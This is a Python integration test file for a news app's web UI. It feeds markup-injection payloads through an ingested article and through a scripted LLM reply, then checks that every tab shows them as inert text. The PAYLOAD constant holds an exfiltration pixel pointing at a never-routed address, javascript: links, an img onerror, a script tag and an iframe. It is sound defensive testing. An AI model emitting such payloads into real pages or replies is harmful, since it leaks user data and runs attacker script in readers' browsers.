"""Markup injected through an article and through a model reply, in a real browser: shown as text in every
tab, never an image, link or element, and the page asks nothing of any address but the app's.

The model is a scripted OpenAI-compatible server on loopback (its reply is the attack); everything else is
real: `newsdesk serve`, Chroma, MiniLM, the verifier, Debian's Chromium.
"""

from __future__ import annotations

import json
import os
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from tests.integration.conftest import BIN, QuietHTTPServer, free_port, serve, wait_http
from tests.integration.test_web_ui import CHROMIUM, FLAGS, open_tab

OUTSIDE = "203.0.113.9"  # TEST-NET-3: never routed; any request to it is the injection working
PAYLOAD = (
    f"![pixel](http://{OUTSIDE}/pixel.png?leak=1) [click](javascript:alert(1)) [data](data:text/html,hi) "
    f"<http://{OUTSIDE}/auto> <img src=http://{OUTSIDE}/img.png onerror=alert(1)> <script>alert(1)</script> "
    f"&lt;b&gt;entity&lt;/b&gt; <iframe src=http://{OUTSIDE}/frame></iframe>"
)
ARTICLE = (
    "Harbour council meets about the ferry\n\n"
    f"The harbour council met on Monday about the new ferry to the island. {PAYLOAD}\n\n"
    f"After a blank line the passage goes on: {PAYLOAD} The ferry will run twice a day from May."
)
REPLY = f"The ferry will run twice a day from May. {PAYLOAD} [1]"
WORK_MS = 120_000  # an answer or rewrite is checked (verifier, parser) before it shows: slow on a busy 2-core machine


class ScriptedModel(BaseHTTPRequestHandler):
    """/v1/models and streamed /v1/chat/completions whose every reply is REPLY."""

    def do_GET(self) -> None:
        self._json({"object": "list", "data": [{"id": "scripted", "object": "model"}]})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
        if not body.get("stream"):
            self._json({"id": "x", "object": "chat.completion", "created": 0, "model": "scripted",
                        "choices": [{"index": 0, "finish_reason": "stop",
                                     "message": {"role": "assistant", "content": REPLY}}]})  # fmt: skip
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        for word in REPLY.split(" "):
            chunk = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "scripted",
                     "choices": [{"index": 0, "delta": {"content": word + " "}, "finish_reason": None}]}  # fmt: skip
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")

    def _json(self, data: object) -> None:
        raw = json.dumps(data).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def app_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    model = QuietHTTPServer(("127.0.0.1", 0), ScriptedModel)
    threading.Thread(target=model.serve_forever, daemon=True).start()
    data = tmp_path_factory.mktemp("inject") / "data"
    article = data.parent / "harbour.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    env = {
        **os.environ,
        "NEWSDESK_DATA_DIR": str(data),
        "NEWSDESK_LLM_BASE_URL": f"http://127.0.0.1:{model.server_address[1]}/v1",
        "NEWSDESK_LLM_MODEL": "scripted",
    }
    subprocess.run([str(BIN / "newsdesk"), "ingest", str(article)], env=env, check=True, capture_output=True)
    port = free_port()
    proc = serve(data, port, data.parent / "serve.log", **{k: v for k, v in env.items() if k.startswith("NEWSDESK_")})
    try:
        wait_http(f"http://127.0.0.1:{port}/", 120, proc)
        yield f"http://127.0.0.1:{port}"
    finally:
        proc.terminate()
        proc.wait(30)
        model.shutdown()


@pytest.fixture(scope="module")
def page(app_url: str) -> Iterator[Page]:
    with sync_playwright() as p:
        browser: Browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        context.set_default_timeout(120_000)
        page = context.new_page()
        page.requests = []  # type: ignore[attr-defined]
        page.on("request", lambda r: page.requests.append(r.url))  # type: ignore[attr-defined]
        page.goto(app_url)
        yield page
        browser.close()


def injected(page: Page, root: str) -> int:
    """Elements under ``root`` that only the payload could have made."""
    selectors = ["img", "iframe", "script", "a[href^='javascript']", "a[href^='data']", f"a[href*='{OUTSIDE}']"]
    return sum(page.locator(f"{root} {s}").count() for s in selectors)


def test_an_injected_answer_and_passage_are_shown_as_text(page: Page) -> None:
    page.locator("#ask-question textarea").fill("When will the ferry run?")
    page.locator("#ask-question textarea").press("Enter")
    answer = page.locator("#ask-chat [data-testid=bot]").last
    expect(answer).to_contain_text("by the cited passages", timeout=WORK_MS)
    expect(answer).to_contain_text("![pixel](http://")  # the reader sees the markup as written
    expect(answer).to_contain_text("<script>alert(1)</script>")
    answer.locator("details summary").first.click()
    quote = answer.locator("blockquote").first
    expect(quote).to_contain_text("After a blank line the passage goes on: ![pixel](http://")  # as written, no "\"
    expect(quote).to_contain_text("<script>alert(1)</script>")
    assert injected(page, "#ask-chat") == 0


def test_an_injected_rewrite_and_report_are_shown_as_text(page: Page) -> None:
    open_tab(page, "Rewrite")
    page.locator("#rewrite-article input").click()
    page.get_by_role("option", name="Harbour council meets about the ferry").click()
    page.locator("#rewrite-run").click()
    expect(page.locator("#rewrite-report")).to_contain_text("Reading grade", timeout=WORK_MS)
    expect(page.locator("#rewrite-output")).to_contain_text("![pixel](http://")
    for root in ("#rewrite-output", "#rewrite-report"):
        assert injected(page, root) == 0, root


def test_an_injected_title_in_the_articles_table_is_text(page: Page) -> None:
    open_tab(page, "Articles")
    expect(page.locator("#articles-table")).to_contain_text("Harbour council meets about the ferry")
    assert injected(page, "#articles-table") == 0


def test_no_request_left_the_app(page: Page) -> None:
    page.wait_for_timeout(2000)
    outside = [u for u in page.requests if not u.startswith(("http://127.0.0.1", "data:", "blob:"))]  # type: ignore[attr-defined]
    assert outside == []
    assert (
        page.locator("body img").count() == page.locator("body img[src^='data:'], body img[src^='http://127']").count()
    )


def test_the_html_report_keeps_injected_case_text_inert() -> None:
    from service.evals.report import render_html
    from service.evals.suite import CaseResult, SuiteResult

    result = SuiteResult("s", "hostile", {"m": 1.0}, [CaseResult("c", False, {"text": PAYLOAD}, ["pixel"])], 1.0)
    html = render_html([result], [])
    for raw in ("<script>alert", f"<img src=http://{OUTSIDE}", "<iframe", f'href="http://{OUTSIDE}'):
        assert raw not in html, raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
